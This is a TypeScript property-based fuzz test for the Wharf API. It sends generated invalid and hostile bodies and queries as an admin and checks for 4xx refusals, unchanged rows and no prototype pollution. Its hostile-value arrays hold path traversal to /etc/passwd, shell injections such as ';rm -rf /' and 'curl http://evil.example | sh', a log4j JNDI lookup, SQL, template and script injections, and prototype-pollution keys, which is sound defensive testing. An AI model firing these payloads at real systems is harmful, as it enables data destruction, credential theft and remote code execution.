import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { databaseDialect, getDb } from '@/lib/server/db';
import {
  type ApiAnswer,
  type ApiError,
  callApi,
  HTTP_METHODS,
  type HttpMethod,
  loadRoute,
  ROOT,
  type RouteFile,
  routeFiles,
} from './support/api';
import { deleteHostRows } from './support/db';
import { loadFleet } from './support/fleet';
import { makeUser, type TestUser, uniqueName } from './support/principals';
import {
  bodyKey,
  MUTATING,
  NEXT_AUTH_ROUTE,
  type SampleContext,
  samplePath,
  VALID_BODIES,
} from './support/route-samples';

/*
 * Property-based bad input: for every JSON body and every query schema, generated invalid and hostile
 * payloads sent by an admin (so validation, not authorization, has to stop them) get a 4xx JSON error,
 * never a 5xx or a hang, and change no row. Each generated body breaks the valid sample in at least one
 * place, so that nothing generated is allowed to act. The seed is printed on failure; set
 * WHARF_FUZZ_SEED to replay a run.
 */

const SEED = Number(process.env.WHARF_FUZZ_SEED) || Math.floor(Math.random() * 2 ** 31);
const RUNS = 25;
/** The longest a refusal may take; validation answers in milliseconds. */
const MAX_MS = 4000;
/** The longest a read that reaches an engine (a log search of a real host) may take. */
const READ_MAX_MS = 6000;

const HOST = uniqueName('fuzz-host');
let admin: TestUser;
/** Path parameters name things that do not exist: a body that slipped through could not act. */
const ctx: SampleContext = {
  host: 'no-such-host',
  missing: 'nosuch0',
  proxyUrl: 'unix:///nonexistent/wharf-fuzz.sock',
  tls: null,
  unique: () => uniqueName('fuzz'),
};

type Endpoint = { route: RouteFile; method: HttpMethod; path: string; key: string };
const bodyEndpoints: Endpoint[] = [];

// ---------------------------------------------------------------------------------------------------
// Hostile values

const TRAVERSAL = [
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.png',
];
const SHELL = [
  '$(id)',
  '`id`',
  ';rm -rf /',
  '| cat /etc/shadow',
  '&& curl http://evil.example | sh',
  "'; DROP TABLE users; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, on purpose
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\nb\r\nc',
];
const UNICODE = [
  '\u202Eevil\u202C',
  'a\u200Bb\u200Dc',
  '\u{1F4A9}\u{1F4A9}\u{1F4A9}',
  '\uD800',
  'x\uDC00y',
  '\u0000',
  'e\u0301',
  'b\uFEFFom',
  'ｆｕｌｌｗｉｄｔｈ',
  'İı',
];
/** Image references off the grammar. */
const BAD_REFS = [
  'UPPER/Case:tag',
  'repo:tag:tag',
  'repo@sha256:xyz',
  `${'a'.repeat(300)}:tag`,
  '-lead/x:1',
  'x//y:1',
  'http://registry.example/x:1',
  'repo :1',
  'repo:',
  ':tag',
  `@sha256:${'0'.repeat(64)}`,
  'repo:tag@sha256:short',
  'repo:ta g',
];
const HOSTILE_STRINGS = [...TRAVERSAL, ...SHELL, ...UNICODE, ...BAD_REFS];
/**
 * Characters no name, reference, address, time or enum value of Wharf's grammars allows (whitespace
 * is not among them: the schemas trim it).
 */
const BREAKERS = ['$', '`', ';', '|', '&', '\u202E', '\u0000', '%', '"', '<', '\uD800'];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'];
const POLLUTION = { polluted: 'yes', isAdmin: true, role: 'admin' };

const HUGE = fc.constantFrom('A'.repeat(100_000), '\u{1F4A9}'.repeat(50_000), '../'.repeat(34_000));

/** Any string, lone surrogates included, with one character no grammar allows. */
const offGrammar = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc
    .tuple(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(...BREAKERS),
      fc.string({ maxLength: 12 }),
    )
    .map(([a, b, c]) => a + b + c),
);

/** JSON text of a value nested `depth` levels deep, objects and arrays in turn. */
function nestedJson(depth: number): string {
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i++) {
    open += i % 2 ? '[' : '{"a":';
    close = (i % 2 ? ']' : '}') + close;
  }
  return `${open}"bottom"${close}`;
}

/**
 * Stands for a value nested 5000 levels deep, written into the JSON text only when the body is sent:
 * neither fast-check's printer nor JSON.stringify would get through it.
 */
const DEEP = { [fc.toStringMethod]: () => '<nested 5000 levels deep>' };
const DEEP_PLACEHOLDER = '\u0000deep-placeholder\u0000';
const DEEP_JSON = nestedJson(5000);

/** The body as JSON text, with the deep value in place. */
function toJson(body: unknown): string {
  return JSON.stringify(body).replaceAll(JSON.stringify(DEEP_PLACEHOLDER), DEEP_JSON);
}

/** A value of another JSON type than the one given (null aside: an optional field may take it). */
function wrongTypes(value: unknown): unknown[] {
  if (typeof value === 'string') return [12345, -1, 0, true, false, [], {}, ['a'], { a: 'b' }, DEEP];
  if (typeof value === 'number')
    return ['NaN', 'Infinity', '-Infinity', '1e400', '-0', '0x10', ' 42 ', '42', true, [], {}, DEEP];
  if (typeof value === 'boolean') return ['true', 'false', 0, 1, 'yes', [], {}, DEEP];
  if (Array.isArray(value)) return ['not-a-list', {}, { 0: 'x', length: 1 }, 42, true, DEEP];
  return [[], 'x', 42, true, [['nested']], DEEP];
}

// ---------------------------------------------------------------------------------------------------
// Bodies

type Path = (string | number)[];
type Node = { path: Path; value: unknown; key: string | number; inRecord: boolean };

/** Objects whose keys are data (label, env and driver option names) rather than a fixed schema. */
const RECORD_FIELDS = new Set(['labels', 'env', 'secretEnv', 'driverOpts']);
/** Fields whose value is free text: any string within the length limit is valid. */
const FREE_TEXT = new Set(['password', 'note', 'reason', 'yaml']);
const FREE_TEXT_BY_ROUTE: Record<string, string[]> = {
  'POST /api/v1/tokens': ['name'],
  // A registry account's name is the registry's business: any text up to 256 characters.
  'POST /api/v1/registries': ['username'],
};

function nodesOf(value: unknown, at: Path = [], inRecord = false): Node[] {
  const out: Node[] = [];
  if (Array.isArray(value)) {
    value.forEach((v, i) => {
      out.push({ path: [...at, i], value: v, key: i, inRecord });
      out.push(...nodesOf(v, [...at, i], false));
    });
  } else if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push({ path: [...at, k], value: v, key: k, inRecord });
      out.push(...nodesOf(v, [...at, k], RECORD_FIELDS.has(k)));
    }
  }
  return out;
}

function parentOf(root: Record<string, unknown>, at: Path): Record<string | number, unknown> {
  let cur: unknown = root;
  for (const p of at) cur = (cur as Record<string | number, unknown>)[p];
  return cur as Record<string | number, unknown>;
}

/** Sets an own, enumerable property, so that `__proto__` is a key of the JSON, not a prototype. */
function setOwn(target: Record<string | number, unknown>, key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

type Mutation = { what: string; at: Path; key: string | number; value: unknown };

function apply(body: Record<string, unknown>, m: Mutation): void {
  setOwn(parentOf(body, m.at), m.key, m.value === DEEP ? DEEP_PLACEHOLDER : m.value);
}

function describeMutation(m: Mutation): string {
  const shown = JSON.stringify(m.value === DEEP ? '<5000 levels deep>' : m.value) ?? 'undefined';
  return `${m.what} at ${[...m.at, m.key].join('.') || '(root)'} = ${shown.length > 80 ? `${shown.slice(0, 80)}… (${shown.length} chars)` : shown}`;
}

/** The ways to break a valid sample body, each certain to make it invalid. */
function breakingMutations(key: string, valid: Record<string, unknown>): fc.Arbitrary<Mutation>[] {
  const nodes = nodesOf(valid);
  const freeText = new Set([...FREE_TEXT, ...(FREE_TEXT_BY_ROUTE[key] ?? [])]);
  const at = (n: Node) => n.path.slice(0, -1);
  const arbs: fc.Arbitrary<Mutation>[] = [];
  const pick = <T>(list: T[]) => fc.constantFrom(...list);

  // A value of the wrong type, at any depth.
  if (nodes.length)
    arbs.push(
      pick(nodes).chain((n) =>
        pick(wrongTypes(n.value)).map((value) => ({ what: 'wrong type', at: at(n), key: n.key, value })),
      ),
    );
  // An unknown key, prototype pollution keys included, at the top and in every nested object that is
  // not a record.
  const objects: Path[] = [
    [],
    ...nodes
      .filter(
        (n) =>
          n.value &&
          typeof n.value === 'object' &&
          !Array.isArray(n.value) &&
          !RECORD_FIELDS.has(String(n.key)),
      )
      .map((n) => n.path),
  ];
  arbs.push(
    fc
      .tuple(
        pick(objects),
        fc.oneof(
          pick(PROTO_KEYS),
          pick(['isAdmin', 'role_override', '$where', 'toString', 'hasOwnProperty']),
        ),
        pick<unknown>([POLLUTION, { prototype: POLLUTION }, 'x', 1, true]),
      )
      .map(([path, key, value]) => ({ what: 'unknown key', at: path, key, value })),
  );
  const strings = nodes.filter((n) => typeof n.value === 'string');
  // A string far over any limit.
  if (strings.length)
    arbs.push(
      fc
        .tuple(pick(strings), HUGE)
        .map(([n, value]) => ({ what: 'huge string', at: at(n), key: n.key, value })),
    );
  // A name, reference, address, time or choice off its grammar.
  const grammar = strings.filter((n) => !n.inRecord && !freeText.has(String(n.key)));
  if (grammar.length)
    arbs.push(
      fc
        .tuple(pick(grammar), offGrammar)
        .map(([n, value]) => ({ what: 'off the grammar', at: at(n), key: n.key, value })),
    );
  // A number out of range or not whole.
  const numbers = nodes.filter((n) => typeof n.value === 'number');
  if (numbers.length)
    arbs.push(
      fc
        .tuple(pick(numbers), pick([-1, -1e9, 0.5, 1.5, -0.001, Number.MIN_VALUE]))
        .map(([n, value]) => ({ what: 'number out of range', at: at(n), key: n.key, value })),
    );
  return arbs;
}

/** Hostile changes that may be valid on their own: free text and record keys any value may take. */
function hostileExtras(key: string, valid: Record<string, unknown>): fc.Arbitrary<Mutation>[] {
  const nodes = nodesOf(valid);
  const freeText = new Set([...FREE_TEXT, ...(FREE_TEXT_BY_ROUTE[key] ?? [])]);
  const arbs: fc.Arbitrary<Mutation>[] = [];
  const texts = nodes.filter(
    (n) => typeof n.value === 'string' && (n.inRecord || freeText.has(String(n.key))),
  );
  if (texts.length)
    arbs.push(
      fc
        .tuple(
          fc.constantFrom(...texts),
          fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: 'binary' })),
        )
        .map(([n, value]) => ({ what: 'hostile text', at: n.path.slice(0, -1), key: n.key, value })),
    );
  const records = nodes.filter(
    (n) => RECORD_FIELDS.has(String(n.key)) && n.value && typeof n.value === 'object',
  );
  if (records.length)
    arbs.push(
      fc
        .tuple(
          fc.constantFrom(...records),
          fc.constantFrom(...PROTO_KEYS),
          fc.constantFrom<unknown>('x', POLLUTION),
        )
        .map(([n, k, value]) => ({ what: 'pollution key in a record', at: n.path, key: k, value })),
    );
  return arbs;
}

// ---------------------------------------------------------------------------------------------------
// Queries

type QueryKind =
  | { kind: 'int'; min: number; max: number }
  | { kind: 'tail' }
  | { kind: 'choice' }
  | { kind: 'name' }
  | { kind: 'isoTime' }
  | { kind: 'logTime' }
  | { kind: 'text'; min?: number; max: number }
  | { kind: 'ref' };

const int = (min: number, max: number): QueryKind => ({ kind: 'int', min, max });
const text = (max: number, min?: number): QueryKind => ({ kind: 'text', max, min });
const choice: QueryKind = { kind: 'choice' };
const name: QueryKind = { kind: 'name' };
const logQuery = {
  tail: { kind: 'tail' },
  since: { kind: 'logTime' },
  until: { kind: 'logTime' },
  stream: choice,
  follow: choice,
  q: text(500),
} satisfies Record<string, QueryKind>;
const searchQuery = {
  q: text(500, 1),
  regex: choice,
  since: { kind: 'logTime' },
  until: { kind: 'logTime' },
  context: int(0, 20),
  limit: int(1, 2000),
} satisfies Record<string, QueryKind>;

/**
 * Every query schema, by `METHOD template`, with the kind of each field. A route that reads a query
 * needs an entry: the discovery test below says so.
 */
const QUERIES: Record<string, Record<string, QueryKind>> = {
  'GET /api/v1/audit': {
    actor: text(100),
    action: text(100),
    target: text(200),
    result: choice,
    since: { kind: 'isoTime' },
    until: { kind: 'isoTime' },
    cursor: text(64),
    limit: int(1, 500),
  },
  'GET /api/v1/hosts/[host]/containers/[id]/logs': logQuery,
  'GET /api/v1/services/[name]/logs': logQuery,
  'GET /api/v1/hosts/[host]/logs/search': searchQuery,
  'GET /api/v1/services/[name]/logs/search': searchQuery,
  'DELETE /api/v1/hosts/[host]/images/[id]': { tag: { kind: 'ref' } },
  'GET /api/v1/hosts/[host]/ports/check': {
    port: int(1, 65_535),
    proto: choice,
    hostIp: name,
    service: name,
  },
  'GET /api/v1/hosts/[host]/ports/suggest': {
    from: int(1, 65_535),
    to: int(1, 65_535),
    proto: choice,
    count: int(1, 100),
  },
  'DELETE /api/v1/hosts/[host]/volumes/[name]': { confirm: text(255), backup: choice },
  'GET /api/v1/registries/[reg]/repositories/[...path]': { details: choice },
  'GET /api/v1/registries/[reg]/repositories': { q: text(255), n: int(1, 1000), last: name },
  'GET /api/v1/releases': { status: choice, service: name, limit: int(1, 500) },
  'GET /api/v1/services/[name]/releases': { limit: int(1, 500) },
  'POST /api/v1/services': { adoptHost: name, adoptContainer: name },
};

const NAN_ISH = ['NaN', 'Infinity', '-Infinity', '1e400', '1.5', '12abc', 'abc', '--1', '1_000'];

/** A value certain to be refused by a query field of this kind. */
function invalidQueryValue(kind: QueryKind): fc.Arbitrary<string> {
  switch (kind.kind) {
    case 'int':
      return fc.oneof(
        fc.constantFrom(...NAN_ISH, String(kind.min - 1), String(kind.max + 1), '9'.repeat(40)),
        fc.integer({ min: kind.max + 1, max: 2 ** 40 }).map(String),
        fc.integer({ min: -(2 ** 40), max: kind.min - 1 }).map(String),
        offGrammar,
      );
    case 'tail':
      return fc.oneof(fc.constantFrom(...NAN_ISH, '-1', '100001', 'ALL', 'all '), offGrammar);
    case 'choice':
      return fc.oneof(offGrammar, fc.constantFrom('TRUE', 'True', 'x'.repeat(300)), HUGE);
    case 'name':
    case 'ref':
      return fc.oneof(offGrammar, fc.constantFrom('x'.repeat(300), '-x', '.x', ...BAD_REFS), HUGE);
    case 'isoTime':
      return fc.oneof(
        offGrammar,
        fc.constantFrom('2026-13-45T00:00:00Z', 'yesterday', '1700000000', 'NaN'),
        HUGE,
      );
    case 'logTime':
      // Not '-1' or 'x 1': the schema reads times with Date.parse, which takes both (as 2001-01-01).
      return fc.constantFrom(
        'NaN',
        'tomorrow',
        '-Infinity',
        ...TRAVERSAL.slice(0, 4),
        ...SHELL.slice(0, 6),
        'x'.repeat(41),
      );
    case 'text':
      return kind.min ? fc.constantFrom('', 'A'.repeat(100_000)) : HUGE;
  }
}

// ---------------------------------------------------------------------------------------------------
// Checks

async function tableNames(): Promise<string[]> {
  const db = await getDb();
  const rows =
    databaseDialect() === 'sqlite'
      ? (await sql<{ name: string }>`SELECT name FROM sqlite_master WHERE type = 'table'`.execute(db)).rows
      : (
          await sql<{ name: string }>`SELECT table_name AS name FROM information_schema.tables
            WHERE table_schema = current_schema() AND table_type = 'BASE TABLE'`.execute(db)
        ).rows;
  return rows.map((r) => r.name).filter((n) => n !== 'audit_log' && !n.startsWith('sqlite_'));
}

/** The row count of every table but the audit log, which records each refusal. */
async function rowCounts(): Promise<Record<string, number>> {
  const db = await getDb();
  const counts: Record<string, number> = {};
  for (const table of await tableNames()) {
    const row = (await sql<{ n: number | string }>`SELECT count(*) AS n FROM ${sql.table(table)}`.execute(db))
      .rows[0];
    counts[table] = Number(row?.n ?? 0);
  }
  return counts;
}

/** Calls the route, giving up (and failing) if it has not answered within a few seconds. */
async function bounded(
  method: HttpMethod,
  url: string,
  opts: Parameters<typeof callApi>[2],
): Promise<ApiAnswer> {
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(
      () => reject(new Error(`${method} ${url} did not answer within ${READ_MAX_MS * 2} ms`)),
      READ_MAX_MS * 2,
    );
  });
  try {
    return await Promise.race([callApi(method, url, opts), hang]);
  } finally {
    clearTimeout(timer);
  }
}

function checkRefusal(res: ApiAnswer, label: string): void {
  const where = `${label} [WHARF_FUZZ_SEED=${SEED}]: ${res.status} ${res.text.slice(0, 300)}`;
  expect(res.status, where).toBeGreaterThanOrEqual(400);
  expect(res.status, where).toBeLessThan(500);
  expect(res.headers.get('content-type') ?? '', where).toMatch(/^application\/json/);
  const error = (res.json as ApiError | undefined)?.error;
  expect(typeof error?.code, where).toBe('string');
  expect(typeof error?.message, where).toBe('string');
  expect(res.ms, where).toBeLessThan(MAX_MS);
  expect(({} as Record<string, unknown>).polluted, `${where}: Object.prototype was polluted`).toBeUndefined();
  expect(Object.keys(Object.prototype), `${where}: Object.prototype was polluted`).toEqual([]);
}

function querySuffix(query: Record<string, string>): string {
  const shown = JSON.stringify(query);
  return shown.length > 300 ? `${shown.slice(0, 300)}…` : shown;
}

beforeAll(async () => {
  admin = await makeUser('admin', 'fuzz');
  // A real host for the queries' path, reached over the local socket: a query that slipped through
  // validation would reach the engine and answer 200, which the checks catch.
  const res = await callApi('POST', '/api/v1/hosts', {
    token: admin.token,
    body: { name: HOST, url: loadFleet().hosts['fleet-c'].url },
  });
  expect(res.status, res.text).toBe(201);
  for (const route of routeFiles()) {
    if (route.file === NEXT_AUTH_ROUTE) continue;
    const mod = await loadRoute(route);
    for (const method of HTTP_METHODS) {
      if (!MUTATING.has(method) || !mod[method]?.wharf) continue;
      const path = samplePath(route, ctx, false);
      // An endpoint takes a JSON body when a non-JSON one is refused with 415 before anything else runs.
      const probe = await callApi(method, path, {
        token: admin.token,
        headers: { 'content-type': 'text/plain' },
        rawBody: 'x',
      });
      if (probe.status === 415) bodyEndpoints.push({ route, method, path, key: bodyKey(method, route) });
    }
  }
});

afterAll(async () => {
  await deleteHostRows([HOST]);
});

describe(`generated hostile input (seed ${SEED})`, () => {
  it('finds every body and query schema, each with a sample or a field list', async () => {
    expect(bodyEndpoints.length).toBeGreaterThan(20);
    expect(bodyEndpoints.filter((e) => !VALID_BODIES[e.key]).map((e) => e.key)).toEqual([]);
    // A route reads a query when its options name a `query` schema.
    const withQuery: string[] = [];
    for (const route of routeFiles()) {
      const source = fs.readFileSync(path.join(ROOT, route.file), 'utf8');
      const mod = await loadRoute(route);
      for (const method of HTTP_METHODS) {
        if (!mod[method]?.wharf) continue;
        const block = new RegExp(`export const ${method} = route\\(([\\s\\S]*?)\\},?\\s*(async )?\\(`).exec(
          source,
        );
        if (block?.[1] && /\bquery:/.test(block[1])) withQuery.push(bodyKey(method, route));
      }
    }
    expect(withQuery.sort()).toEqual(Object.keys(QUERIES).sort());
  });

  it('refuses broken bodies on every endpoint with a 4xx JSON error and changes nothing', async () => {
    const before = await rowCounts();
    const tried: string[] = [];
    for (const e of bodyEndpoints) {
      const sample = VALID_BODIES[e.key];
      if (!sample) continue;
      const valid = sample(ctx);
      const extras = hostileExtras(e.key, valid);
      const body = fc.record({
        breaking: fc.oneof(...breakingMutations(e.key, valid)),
        extras: extras.length ? fc.array(fc.oneof(...extras), { maxLength: 2 }) : fc.constant([]),
      });
      await fc.assert(
        fc.asyncProperty(body, async ({ breaking, extras }) => {
          const sent = structuredClone(valid);
          for (const m of extras) apply(sent, m);
          apply(sent, breaking);
          const label = `${e.method} ${e.path} ${[breaking, ...extras].map(describeMutation).join('; ')}`;
          const res = await bounded(e.method, e.path, {
            token: admin.token,
            headers: { 'content-type': 'application/json' },
            rawBody: toJson(sent),
          });
          checkRefusal(res, label);
        }),
        { seed: SEED, numRuns: RUNS, endOnFailure: true },
      );
      tried.push(e.key);
      expect(await rowCounts(), `${e.key} changed rows [WHARF_FUZZ_SEED=${SEED}]`).toEqual(before);
    }
    expect(tried.length).toBe(bodyEndpoints.length);
  }, 180_000);

  it('refuses invalid query values on every query schema with a 4xx JSON error and changes nothing', async () => {
    const before = await rowCounts();
    const real: SampleContext = { ...ctx, host: HOST };
    for (const [key, fields] of Object.entries(QUERIES)) {
      const [method, template] = key.split(' ') as [HttpMethod, string];
      const route = routeFiles().find((r) => r.template === template);
      if (!route) throw new Error(`no route ${template}`);
      // Reads run against a real host; mutations name things that do not exist.
      const url = samplePath(route, method === 'GET' ? real : ctx, method === 'GET');
      const names = Object.keys(fields);
      // One field certainly invalid, others hostile (valid or not), pollution keys among them.
      const query = fc
        .record({
          field: fc.constantFrom(...names),
          others: fc.dictionary(
            fc.oneof(fc.constantFrom(...names), fc.constantFrom(...PROTO_KEYS)),
            fc.constantFrom(...HOSTILE_STRINGS),
            { maxKeys: 3 },
          ),
        })
        .chain((q) => invalidQueryValue(fields[q.field] as QueryKind).map((bad) => ({ ...q, bad })));
      await fc.assert(
        fc.asyncProperty(query, async ({ field, bad, others }) => {
          const sent: Record<string, string> = { ...others, [field]: bad };
          const res = await bounded(method, url, {
            token: admin.token,
            query: sent,
            // A body endpoint gets an empty JSON body: the query is checked first.
            ...(MUTATING.has(method) ? { body: {} } : {}),
          });
          checkRefusal(res, `${method} ${url} ?${querySuffix(sent)}`);
          expect(res.status, `${key} ${field}=${JSON.stringify(bad).slice(0, 80)}`).toBe(400);
        }),
        { seed: SEED, numRuns: RUNS, endOnFailure: true },
      );
      expect(await rowCounts(), `${key} changed rows [WHARF_FUZZ_SEED=${SEED}]`).toEqual(before);
    }
  }, 120_000);

  it('answers hostile free text in a read’s query without a 5xx or a hang', async () => {
    // Free text within its length limit is valid, so a read may answer 200: it must not fail on it
    // (a NUL character, for one, is refused by PostgreSQL in a query parameter).
    const real: SampleContext = { ...ctx, host: HOST };
    let checked = 0;
    for (const [key, fields] of Object.entries(QUERIES)) {
      const [method, template] = key.split(' ') as [HttpMethod, string];
      const texts = Object.entries(fields).filter(([, k]) => k.kind === 'text');
      const route = routeFiles().find((r) => r.template === template);
      if (method !== 'GET' || !texts.length || !route) continue;
      const url = samplePath(route, real, true);
      const hostileText = fc.record({
        field: fc.constantFrom(...texts.map(([f]) => f)),
        value: fc.oneof(
          fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s.length <= 60)),
          fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
        ),
      });
      await fc.assert(
        fc.asyncProperty(hostileText, async ({ field, value }) => {
          const res = await bounded('GET', url, { token: admin.token, query: { [field]: value } });
          const where = `GET ${url} ?${querySuffix({ [field]: value })} [WHARF_FUZZ_SEED=${SEED}]: ${res.status} ${res.text.slice(0, 300)}`;
          expect(res.status, where).toBeLessThan(500);
          expect(res.ms, where).toBeLessThan(READ_MAX_MS);
          if (res.status >= 400)
            expect(typeof (res.json as ApiError | undefined)?.error?.code, where).toBe('string');
        }),
        {
          seed: SEED,
          numRuns: RUNS,
          endOnFailure: true,
          examples: [[{ field: texts[0]?.[0] ?? 'q', value: 'a\u0000b' }]],
        },
      );
      checked++;
    }
    expect(checked).toBeGreaterThanOrEqual(4);
  }, 120_000);

  it('answers hostile query strings on every read without a 5xx or a hang', async () => {
    const real: SampleContext = { ...ctx, host: HOST };
    const reads: { route: RouteFile; url: string }[] = [];
    for (const route of routeFiles()) {
      if (route.file === NEXT_AUTH_ROUTE) continue;
      if ((await loadRoute(route)).GET?.wharf) reads.push({ route, url: samplePath(route, real, true) });
    }
    expect(reads.length).toBeGreaterThan(30);
    const hostileQuery = fc.dictionary(
      fc.oneof(
        fc.constantFrom(
          'q',
          'limit',
          'tail',
          'since',
          'until',
          'status',
          'service',
          'regex',
          'follow',
          ...PROTO_KEYS,
        ),
        fc.string({ unit: 'binary', maxLength: 8 }),
      ),
      fc.oneof(fc.constantFrom(...HOSTILE_STRINGS, ...NAN_ISH, '(a+)+$', '.*.*.*.*.*=', 'true'), HUGE),
      { minKeys: 1, maxKeys: 4 },
    );
    for (const { url } of reads) {
      await fc.assert(
        fc.asyncProperty(hostileQuery, async (query) => {
          const res = await bounded('GET', url, { token: admin.token, query });
          const where = `GET ${url} ?${querySuffix(query)} [WHARF_FUZZ_SEED=${SEED}]: ${res.status} ${res.text.slice(0, 300)}`;
          expect(res.status, where).toBeLessThan(500);
          expect(res.ms, where).toBeLessThan(READ_MAX_MS);
          if (res.status >= 400)
            expect(typeof (res.json as ApiError | undefined)?.error?.code, where).toBe('string');
        }),
        { seed: SEED, numRuns: 8, endOnFailure: true },
      );
    }
  }, 180_000);
});
